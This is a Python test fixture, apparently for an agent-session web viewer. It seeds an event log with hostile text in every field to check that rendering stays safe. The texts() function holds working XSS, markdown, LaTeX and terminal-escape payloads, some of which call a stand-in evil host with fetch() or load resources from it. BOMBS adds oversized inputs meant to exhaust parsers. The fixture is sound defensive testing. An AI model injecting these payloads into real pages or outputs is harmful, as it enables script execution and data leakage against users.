"""Hostile text in every text of every event, and a server whose log is full of it."""

import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, get_args

import anyio
import msgspec
from msgspec import Struct
from msgspec.inspect import (
    AnyType,
    BoolType,
    FloatType,
    IntType,
    ListType,
    LiteralType,
    Metadata,
    NoneType,
    StrType,
    StructType,
    Type,
    UnionType,
    type_info,
)

from contracts.events import (
    AgentMessage,
    ApprovalRequest,
    CommandSent,
    PlanUpdated,
    SessionCreated,
    SessionDeleted,
    SessionEvent,
    SessionOutput,
    Status,
    SystemEvent,
    TurnCompleted,
    TurnStarted,
)
from domain.ids import SessionId
from domain.ports import Listing
from domain.system import SYSTEM
from infrastructure.eventlogs.sqlite import SqliteEventLog

CANARY = "window.ran = 1"
PLAIN: dict[type[Type], list[Any]] = {IntType: [1], FloatType: [1], BoolType: [True, False]}
IDENTIFIER = "number-00001"
SESSION = SessionId("hostile-session")
TURNED = "\u202e\u2066\u200f"
UNSEEN = "\u200b\u00ad\U000e0041\u2060"


def texts(evil: str) -> list[str]:
    """Return what would script, load, dress up or mislead; each does something that *evil* or the canary would tell."""
    send = f"fetch('{evil}/?ran=1')"
    return [
        f"<img src=x onerror=\"{CANARY};{send}\"><img src='{evil}/?loaded=img'>",
        f"<script>{CANARY};{send}</script></script><script src={evil}/?loaded=script></script>",
        f"<svg/onload='{CANARY}'><a xlink:href='javascript:{CANARY}'><text>x</text></a><use href='{evil}/#x'></svg>",
        f"</title></textarea></style></noscript><body onload='{CANARY}'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CANARY}&gt;'>",
        f"<iframe srcdoc='<script>parent.ran = 1</script>' src='{evil}'></iframe><object data={evil}></object>",
        f"<form action={evil}><input name=x autofocus onfocus='{CANARY}'><button>Allow once</button></form>",
        f"<style>@import '{evil}/?loaded=css'; body {{ background: url({evil}/?loaded=css) }}</style>",
        f"<link rel=stylesheet href='{evil}/?loaded=css'><meta http-equiv=refresh content='0;url={evil}'>",
        f"<base href='{evil}/'><video src={evil}/?loaded=video autoplay></video>",
        f"<p style='background:url({evil}/?loaded=style);position:fixed;inset:0' class=approval id=root>over</p>",
        f"![remote]({evil}/?loaded=markdown) ![data](data:text/html,<script>{CANARY}</script>)",
        f"[script](javascript:{CANARY}) [tab](java\tscript:{CANARY}) [data](data:text/html,x) [file](file:///etc)",
        f"[own](/api/logout) [near](//localhost/) [entity](&#106;avascript:{CANARY}) <javascript:{CANARY}>",
        f'[away]({evil}/?clicked=1 "https://github.com")',
        f"[ref]: javascript:{CANARY}\n\n[ref] and [^1]\n\n[^1]: {evil}",
        f'```mermaid\ngraph TD; A-->B; click A href "javascript:{CANARY}"\n```',
        f"```html\n<script>{CANARY}</script>\n```",
        f"$\\href{{javascript:{CANARY}}}{{x}}$ \\includegraphics{{{evil}/?loaded=katex}}",
        f"\x1b]8;;javascript:{CANARY}\x1b\\link\x1b]8;;\x1b\\ \x1b]0;title\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[6n\x1bP+q",
        f"{TURNED}turned {UNSEEN}unseen \x00\x07\x08\x1b\x7f\x9b\u2028\u2029\ufeff\ufffe end",
        f"${{{CANARY}}} {{{{constructor.constructor('{CANARY}')()}}}} `${{{CANARY}}}` __proto__ ' \" ` & ; %3C",
    ]


def made(kind: type[Struct], text: str) -> Iterator[Any]:
    """Yield structs of a kind, in each form that it has, with *text* in every text; the last has what it must alone."""
    info = type_info(kind)
    assert isinstance(info, StructType)
    forms = {field.encode_name: _values(field.type, text) for field in info.fields}
    required = {field.encode_name for field in info.fields if field.required}
    tag = {info.tag_field: info.tag} if info.tag_field else {}
    most = max(map(len, forms.values()), default=0)
    for turn in range(most + 1):
        members = {name: values[min(turn, len(values) - 1)] for name, values in forms.items()}
        members |= {name: f"number-{turn:05}" for name, value in members.items() if value == IDENTIFIER}
        if turn == most:
            members = {name: value for name, value in members.items() if name in required}
        yield msgspec.convert(members | tag, kind)


def _values(kind: Type, text: str) -> list[Any]:
    """Return values of a type, one for each form that it has."""
    values: list[Any]
    match kind:
        case Metadata(type=inner):
            values = _values(inner, text)
        case StrType(pattern=pattern):
            values = [text if pattern is None else "EUR" if "{3}" in pattern else IDENTIFIER]
        case LiteralType(values=literals):
            values = list(literals)
        case AnyType():
            values = [{text: text}, {"command": text}, [text]]
        case ListType(item_type=item):
            values = [_values(item, text)]
        case StructType(cls=cls):
            values = [msgspec.to_builtins(one) for one in made(cls, text)]
        case UnionType(types=types):
            values = [value for one in types if not isinstance(one, NoneType) for value in _values(one, text)]
        case _:
            values = PLAIN[type(kind)]
    return values


def events(kinds: Any, text: str) -> list[Any]:
    """Return events of a union of kinds, in each form that they have."""
    return [event for kind in get_args(kinds) for event in made(kind, text)]


def fill(data: Path, text: str) -> str:
    """Make a data directory whose log holds all such events, of one session and of none; return the session."""
    data.mkdir(mode=0o700)
    with ThreadPoolExecutor(1) as thread:  # playwright's loop runs in this one
        thread.submit(anyio.run, _fill, data / "towpath.db", text).result()
    return str(SESSION)


async def _fill(database: Path, text: str) -> None:
    first = next(made(SessionCreated, text))
    others = [one for one in events(SessionEvent, text) if not isinstance(one, SessionCreated | SessionDeleted)]
    # What is still open at the end: a question, a plan, a queue.
    others += [one for one in others if isinstance(one, ApprovalRequest | PlanUpdated | CommandSent)]
    async with SqliteEventLog.open(database, durability="process") as log:
        await _append(log, SESSION, [first, *others], _listing(text, "waiting"))
        await _append(log, SYSTEM, events(SystemEvent, text), None)


async def _keep(database: Path, said: Sequence[Any], title: str) -> None:
    async with SqliteEventLog.open(database, durability="process") as log:
        await _append(log, SESSION, said, _listing(title, "idle"))


def _listing(text: str, status: Status) -> Listing:
    return Listing(
        session_id=SESSION,
        mode=text,
        title=text,
        working_dir=text,
        status=status,
        created_at=1,
        archived=False,
        at_rest=True,
    )


async def _append(log: SqliteEventLog, session: SessionId, said: Sequence[Any], listing: Listing | None) -> None:
    now = int(time.time() * 1000)  # or it would be trimmed
    stamped = [
        msgspec.structs.replace(event, session_id=session, seq=seq, timestamp=now) for seq, event in enumerate(said, 1)
    ]
    await log.append(session, stamped, expected_seq=0, listing=listing)


BOMBS: dict[str, str] = {
    "quotes": ">" * 30_000,
    "lists": "- " * 15_000,
    "numbers": "1. " * 10_000,
    "emphasis": "*a_" * 10_000,
    "strong": "__a" * 10_000,
    "mail": "a." * 15_000 + "@",
    "backticks": "`" * 10_000,
    "brackets": "[" * 30_000,
    "one line": "x" * 60_000,
    "tags": "<b><i>" * 5_000,
    "code": f"```python\n{'0' * 50_000}x\n```",
    "words": f"```java\n{'a' * 50_000}\n```",
    "blanks": "```typescript\n" + "\n" * 50_000 + "x\n```",
}
"""Texts that a reader of Markdown or code can spend minutes on, or its stack."""


def fill_said(data: Path) -> str:
    """Make a data directory with one session in which an agent says all bombs, and a shell the like; return it."""
    data.mkdir(mode=0o700)
    screens = ["\r" * 60_000, "\x1b[" * 20_000, "\x1b[1;31m\x1b[0m" * 4_000, "\x1b]0;" + "x" * 60_000, "x" * 60_000]
    said = [
        SessionCreated(mode="shell", working_dir="/", title="Bombs"),
        CommandSent(turn_id=IDENTIFIER, command="bombs", delivery="queue"),
        TurnStarted(turn_id=IDENTIFIER),
        *(SessionOutput(turn_id=IDENTIFIER, stream="stdout", content=screen) for screen in screens),
        *(
            AgentMessage(turn_id=IDENTIFIER, message_id=f"message-{name.replace(' ', '-')}", text=text)
            for name, text in BOMBS.items()
        ),
        AgentMessage(turn_id=IDENTIFIER, message_id="message-last", text="the end"),
        TurnCompleted(turn_id=IDENTIFIER, stop_reason="end"),
    ]
    with ThreadPoolExecutor(1) as thread:
        thread.submit(anyio.run, _keep, data / "towpath.db", said, "Bombs").result()
    return str(SESSION)
